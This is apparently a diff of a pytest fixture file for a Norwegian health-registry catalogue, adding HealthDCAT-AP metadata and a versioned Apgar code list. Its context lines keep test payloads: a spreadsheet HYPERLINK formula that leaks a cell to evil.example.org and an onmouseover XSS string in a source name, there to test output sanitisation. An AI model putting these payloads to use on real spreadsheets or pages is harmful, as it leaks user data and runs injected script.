@@ -7,6 +7,7 @@ event handlers, javascript: links), and a source whose feed is missing (a failed
 
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -33,6 +34,16 @@ XSS = {
 }
 
 FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Klikk")'
+
+
+MFR_HEALTHDCAT: dict[str, object] = {
+    "has_personal_data": [
+        f"https://w3id.org/dpv/dpv-pd#{term}" for term in ("Age", "Gender", "HealthRecord", "Tattoo")
+    ],
+    "generated_by": ["https://hdeu-dcat.data.health.europa.eu/resource/authority/health-activity/HEALTH_REGISTRIES"],
+    "conforms_to": ["https://hdeu-dcat.data.health.europa.eu/resource/authority/standard/FHIR"],
+}
+"""MFR's HealthDCAT-AP statements as codes of vocabularies (the last personal data term one we hold no label for)."""
 
 
 def npr_records() -> list:
@@ -147,7 +158,11 @@ def evil_dataset() -> Dataset:
 
 
 SOURCES = {
-    "mfr": ("central-registry", "Medisinsk fødselsregister", lambda: [mfr_dataset(), apgar_codes()]),
+    "mfr": (
+        "central-registry",
+        "Medisinsk fødselsregister",
+        lambda: [mfr_dataset(**MFR_HEALTHDCAT), replace(apgar_codes(), version="2024", valid_from="2024-01-01")],
+    ),
     "npr": ("central-registry", "Norsk pasientregister", npr_records),
     "hunt": ("survey", "HUNT", lambda: [survey_dataset()]),
     "evil": ("catalogue", "<b onmouseover=\"window.__xss='source'\">Evil</b>", lambda: [evil_dataset()]),
